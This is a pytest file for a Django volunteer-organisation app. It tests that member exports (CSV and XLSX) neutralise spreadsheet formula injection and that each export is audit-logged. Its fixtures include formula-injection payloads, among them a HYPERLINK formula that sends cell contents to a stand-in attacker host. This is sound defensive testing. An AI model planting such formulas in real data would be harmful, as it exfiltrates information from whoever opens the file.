"""Formula injection: a member who writes a spreadsheet formula into her name gets plain text in every
export (CSV and XLSX), and every export of personal data is recorded in the audit trail."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from auditlog.models import LogEntry
from django.urls import reverse
from django.utils import timezone
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from core.exports import FORMULA_PREFIXES, neutralise_formula
from members.models import Role
from members.services import payment_record
from tests.factories import AssignmentFactory, LineFactory, MemberFactory, ShiftFactory
from trainings.models import Course, TrainingRecord

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Klicka")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.fixture
def formula_member(organisation):
    """A member whose first and last names are formulas; she has paid, trained and worked a shift."""
    member = MemberFactory(
        organisation=organisation, role=Role.VOLUNTEER, first_name=FORMULAS[0], last_name=FORMULAS[1]
    )
    today = timezone.localdate()
    payment_record(member=member, year=today.year, amount=Decimal("200"), paid_on=today)
    course = Course.objects.filter(organisation=organisation).order_by("pk").first()
    TrainingRecord(member=member, course=course, completed_on=date(today.year, 1, 2)).save()
    shift = ShiftFactory(
        line=LineFactory(organisation=organisation, name="Exportlinjen"),
        starts_at=timezone.now() - timezone.timedelta(days=1),
    )
    AssignmentFactory(shift=shift, member=member)
    return member


def _csv_reader(delimiter):
    def read(response) -> list[str]:
        text = b"".join(response.streaming_content if response.streaming else [response.content])
        rows = csv.reader(io.StringIO(text.decode("utf-8-sig")), delimiter=delimiter)
        return [cell for row in rows for cell in row]

    return read


_csv_cells = _csv_reader(";")


def _xlsx_cells(response) -> list[str]:
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [str(cell.value) for row in sheet.iter_rows() for cell in row if cell.value is not None]


@pytest.mark.parametrize(
    ("url_name", "read"),
    [
        ("members:export_members_csv", _csv_cells),
        ("members:export_members_xlsx", _xlsx_cells),
        ("members:annual_meeting_csv", _csv_cells),
        ("trainings:matrix_csv", _csv_cells),
        ("shifts:statistics_csv", _csv_reader(",")),
    ],
)
def test_no_export_carries_a_live_formula(admin_client_member, organisation, formula_member, url_name, read):
    response = admin_client_member.get(reverse(url_name, kwargs={"organisation": organisation.slug}))
    assert response.status_code == 200
    cells = read(response)
    names = [cell for cell in cells if "HYPERLINK" in cell or "+1+1" in cell]
    assert names, f"{url_name} does not list her"  # not vacuous: she is in the export
    assert all(cell.startswith("'") for cell in names), names
    assert not [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)]


@pytest.mark.parametrize(
    "url_name",
    [
        "members:export_members_csv",
        "members:export_members_xlsx",
        "members:annual_meeting_csv",
        "trainings:matrix_csv",
        "shifts:statistics_csv",
    ],
)
def test_every_export_is_recorded_with_who_did_it(admin_client_member, admin_member, organisation, url_name):
    admin_client_member.get(reverse(url_name, kwargs={"organisation": organisation.slug}))
    entry = LogEntry.objects.filter(action=LogEntry.Action.ACCESS).latest("pk")
    assert entry.actor == admin_member.user
    assert entry.object_id == organisation.pk and entry.additional_data["export"]


@settings(max_examples=50, deadline=None)
@given(text=st.text(max_size=40))
def test_neutralised_cells_never_start_a_formula_and_lose_nothing(text):
    cell = neutralise_formula(text)
    assert not cell.startswith(FORMULA_PREFIXES)
    assert cell in (text, "'" + text)
